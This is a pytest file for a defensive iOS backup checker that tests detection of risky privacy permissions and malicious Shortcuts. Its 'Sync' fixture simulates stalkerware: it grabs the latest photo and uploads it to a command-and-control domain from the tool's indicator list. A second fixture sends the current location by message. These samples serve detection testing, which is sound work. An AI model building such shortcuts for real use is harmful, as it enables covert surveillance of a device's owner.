"""ios.backup reads the privacy permissions a backup holds: TCC.db and locationd's clients.plist."""

from __future__ import annotations

import plistlib
import sqlite3
import tempfile
from pathlib import Path

from builder import BackupBuilder
from hypothesis import given, settings
from hypothesis import strategies as st

from checks.ios.checks import IphoneBackup
from checks.ios.sources.permissions import (
    LOCATIOND_DOMAIN,
    LOCATIOND_PATH,
    TCC_DOMAIN,
    TCC_PATH,
    parse_location_clients,
    parse_tcc,
)
from cybercheck.errors import DamagedInput
from cybercheck.pipeline.model import Severity, Status
from cybercheck.pipeline.words import text
from cybercheck.testing import make_context, run

PASSWORD = "Quince-Harbour-2290"
# The layout of the access table as iOS 14 writes it (the real TCC.db in MVT's sample backup).
V3 = """CREATE TABLE access (service TEXT NOT NULL, client TEXT NOT NULL, client_type INTEGER NOT NULL,
 auth_value INTEGER NOT NULL, auth_reason INTEGER NOT NULL, auth_version INTEGER NOT NULL, csreq BLOB,
 policy_id INTEGER, indirect_object_identifier_type INTEGER,
 indirect_object_identifier TEXT NOT NULL DEFAULT 'UNUSED', indirect_object_code_identity BLOB, flags INTEGER,
 last_modified INTEGER NOT NULL DEFAULT 0)"""


def tcc_db(rows: list[tuple], *, schema: str = V3, wal: bool = True) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "TCC.db"
        db = sqlite3.connect(path)
        db.execute(schema)
        if "auth_value" in schema:
            db.executemany(
                "INSERT INTO access (service, client, client_type, auth_value, auth_reason, auth_version,"
                " last_modified) VALUES (?, ?, ?, ?, ?, 1, ?)",
                rows,
            )
        else:
            db.executemany(
                "INSERT INTO access (service, client, client_type, allowed) VALUES (?, ?, ?, ?)", rows
            )
        db.commit()
        if wal:
            db.execute("PRAGMA journal_mode=WAL")
            db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        db.close()
        return path.read_bytes()


ROWS = [
    ("kTCCServiceMicrophone", "com.example.helper", 0, 2, 2, 1733000000),
    ("kTCCServiceCamera", "com.example.helper", 0, 2, 6, 1733000000),
    ("kTCCServiceMicrophone", "net.whatsapp.WhatsApp", 0, 2, 2, 1733000000),
    ("kTCCServicePhotos", "com.example.denied", 0, 0, 2, 1733000000),
    ("kTCCServiceCamera", "com.apple.camera", 0, 2, 4, 1733000000),
    ("kTCCServiceUbiquity", "com.example.helper", 0, 2, 0, 1733000000),
]
CLIENTS = {
    "com.example.tracker:": {
        "BundleId": "com.example.tracker",
        "Authorization": 2,
        "LocationTimeStopped": 755000000.0,
    },
    "com.apple.weather:": {"BundleId": "com.apple.weather", "Authorization": 4},
    "/usr/libexec/locationd": {"Executable": "/usr/libexec/locationd"},
    "MigrationStatus": 3,
}


def backup(tmp_path: Path, password: str | None = None) -> Path:
    builder = BackupBuilder(password=password, ios_version="18.1")
    builder.add_file(TCC_DOMAIN, TCC_PATH, tcc_db(ROWS))
    builder.add_file(LOCATIOND_DOMAIN, LOCATIOND_PATH, plistlib.dumps(CLIENTS, fmt=plistlib.FMT_BINARY))
    return builder.build(tmp_path / "backup")


def ask(app: str, what: str) -> str:
    return str(text("ios.ask-backup-app", app=app, what=what))


def test_tcc_layouts_are_read():
    permissions, damaged = parse_tcc(tcc_db(ROWS), "TCC.db")
    assert damaged == 0 and len(permissions) == len(ROWS)
    helper = next(
        p for p in permissions if p.app == "com.example.helper" and p.service == "kTCCServiceCamera"
    )
    assert helper.allowed and helper.reason == "mdm_policy"
    old = "CREATE TABLE access (service TEXT, client TEXT, client_type INTEGER, allowed INTEGER)"
    permissions, _ = parse_tcc(tcc_db([("kTCCServiceCamera", "com.example.old", 0, 1)], schema=old), "TCC.db")
    assert permissions[0].allowed is True and permissions[0].changed is None


def test_location_clients_are_read():
    clients, damaged = parse_location_clients(plistlib.dumps(CLIENTS), "clients.plist")
    assert damaged == 0
    assert {c.app for c in clients} == {"com.example.tracker", "com.apple.weather", "/usr/libexec/locationd"}
    tracker = next(c for c in clients if c.app == "com.example.tracker")
    assert tracker.authorization == "2" and tracker.last_used is not None and tracker.last_used.year == 2024


def test_unrecognised_apps_with_permissions_are_findings(tmp_path):
    answers = {
        ask("com.example.helper", "camera, microphone"): "no",
        ask("com.example.tracker", "location"): "not sure",
        ask("net.whatsapp.WhatsApp", "microphone"): "yes",
    }
    ctx = make_context(IphoneBackup.id, inputs={"ios": backup(tmp_path)}, answers=answers)
    result = run(IphoneBackup, ctx)
    found = [f for f in result.findings if f.code == "ios.permission.unknown-app"]
    assert sorted(f.evidence[0].fields["bundle id"] for f in found) == [
        "com.example.helper",
        "com.example.tracker",
    ]
    assert all(f.severity is Severity.HIGH for f in found)
    helper = next(f for f in found if "helper" in f.subject)
    assert "mdm_policy" in helper.evidence[0].fields["how it was allowed"]
    asked = " ".join(ctx.env.asker.asked)  # type: ignore[attr-defined]
    assert "com.apple" not in asked and "com.example.denied" not in asked


def test_unanswered_permissions_are_a_gap_and_a_named_list_is_enough(tmp_path):
    folder = backup(tmp_path)
    result = run(IphoneBackup, inputs={"ios": folder}, offline=True)
    assert "ios.permission.unknown-app" not in {f.code for f in result.findings}
    assert any("com.example.helper" in gap for gap in result.gaps)
    known = {"known-apps": ["helper", "tracker", "whatsapp"]}
    result = run(IphoneBackup, inputs={"ios": folder, **known}, offline=True)
    assert not any("helper" in gap for gap in result.gaps)
    assert any(
        "3 privacy permissions" in line or "6 privacy permissions" in line for line in result.looked_at
    )


def test_encrypted_backup_permissions_are_read(tmp_path):
    folder = backup(tmp_path, PASSWORD)
    ctx = make_context(
        IphoneBackup.id, inputs={"ios": folder, "known-apps": "whatsapp"}, secrets={"ios-backup": PASSWORD}
    )
    result = run(IphoneBackup, ctx)
    assert {"com.example.helper", "com.example.tracker"} <= {
        f.evidence[0].fields["bundle id"] for f in result.findings if f.code == "ios.permission.unknown-app"
    }


def test_a_backup_without_them_says_so(tmp_path):
    folder = BackupBuilder(ios_version="18.1").build(tmp_path / "backup")
    result = run(IphoneBackup, inputs={"ios": folder}, offline=True)
    assert result.status is Status.CLEAN  # not in the backup is what a backup holds, not a part left unread
    said = " ".join(result.looked_at)
    assert "holds none" in said and "TCC.db" in said and "clients.plist" in said


def test_a_damaged_tcc_is_a_gap(tmp_path):
    builder = BackupBuilder(ios_version="18.1").add_file(
        TCC_DOMAIN, TCC_PATH, b"SQLite format 3\x00" + b"\x00" * 90
    )
    result = run(IphoneBackup, inputs={"ios": builder.build(tmp_path / "backup")}, offline=True)
    assert result.status is not Status.CLEAN
    assert any("privacy permissions" in gap and "damaged" in gap for gap in result.gaps)


def shortcuts_db(shortcuts: list[tuple[str, list[dict]]]) -> bytes:
    """Shortcuts.sqlite with the two tables MVT reads (ZSHORTCUT, ZSHORTCUTACTIONS)."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "Shortcuts.sqlite"
        db = sqlite3.connect(path)
        db.execute(
            "CREATE TABLE ZSHORTCUT (Z_PK INTEGER PRIMARY KEY, ZNAME VARCHAR, ZCREATIONDATE TIMESTAMP,"
            " ZMODIFICATIONDATE TIMESTAMP, ZACTIONSDESCRIPTION VARCHAR)"
        )
        db.execute("CREATE TABLE ZSHORTCUTACTIONS (Z_PK INTEGER PRIMARY KEY, ZSHORTCUT INTEGER, ZDATA BLOB)")
        for number, (name, actions) in enumerate(shortcuts, 1):
            db.execute("INSERT INTO ZSHORTCUT VALUES (?, ?, 750000000, 755000000, NULL)", (number, name))
            db.execute(
                "INSERT INTO ZSHORTCUTACTIONS VALUES (?, ?, ?)",
                (number, number, plistlib.dumps(actions, fmt=plistlib.FMT_BINARY) if actions else b"junk"),
            )
        db.commit()
        db.close()
        return path.read_bytes()


def action(identifier: str, **parameters: object) -> dict:
    return {"WFWorkflowActionIdentifier": identifier, "WFWorkflowActionParameters": parameters}


def test_shortcuts_that_gather_and_send_are_findings(tmp_path):
    from checks.ios.sources.shortcuts import SHORTCUTS_DOMAIN, SHORTCUTS_PATH

    indicators = make_context("x").indicators
    c2 = next(d for d, t in indicators.domains.items() if t.kind.value == "stalkerware")
    db = shortcuts_db(
        [
            (
                "On my way",
                [
                    action("is.workflow.actions.getcurrentlocation"),
                    action(
                        "is.workflow.actions.sendmessage", WFSendMessageActionRecipients=["+44 7700 900123"]
                    ),
                ],
            ),
            (
                "Sync",
                [
                    action("is.workflow.actions.getlastphoto"),
                    action("is.workflow.actions.downloadurl", WFURL=f"https://{c2}/upload"),
                ],
            ),
            ("Timer", [action("is.workflow.actions.timer.start")]),
            ("Broken", []),
        ]
    )
    builder = BackupBuilder(ios_version="26.1").add_file(SHORTCUTS_DOMAIN, SHORTCUTS_PATH, db)
    result = run(IphoneBackup, inputs={"ios": builder.build(tmp_path / "backup")}, offline=True)
    found = {
        f.evidence[0].fields["shortcut"]: f for f in result.findings if f.code.startswith("ios.shortcut")
    }
    assert sorted(found) == ["On my way", "Sync"]
    assert (
        found["On my way"].code == "ios.shortcut.sends-out" and found["On my way"].severity is Severity.MEDIUM
    )
    assert "+44 7700 900123" in found["On my way"].evidence[0].fields["sends to"]
    assert (
        found["Sync"].code == "ios.shortcut.listed-destination" and found["Sync"].severity is Severity.URGENT
    )
    assert any("3 shortcuts" in line for line in result.looked_at)
    assert any("1 shortcuts could not be read" in gap for gap in result.gaps)


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=600))
def test_any_bytes_as_a_database_are_read_or_refused_plainly(data):
    from checks.ios.sources.shortcuts import parse_shortcuts

    for parse in (parse_tcc, parse_shortcuts):
        try:
            found, damaged = parse(data, "file")
        except DamagedInput:
            continue
        assert damaged >= 0 and isinstance(found, list)


plist_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(2**40), 2**40)
    | st.floats(allow_nan=False)
    | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
    max_leaves=20,
)


@settings(max_examples=150, deadline=None)
@given(st.dictionaries(st.text(max_size=20), plist_values, max_size=6))
def test_any_clients_plist_is_read_or_refused_plainly(content):
    data = plistlib.dumps(content, fmt=plistlib.FMT_BINARY)
    try:
        clients, damaged = parse_location_clients(data, "clients.plist")
    except DamagedInput:
        return
    assert damaged >= 0 and all(c.app for c in clients)
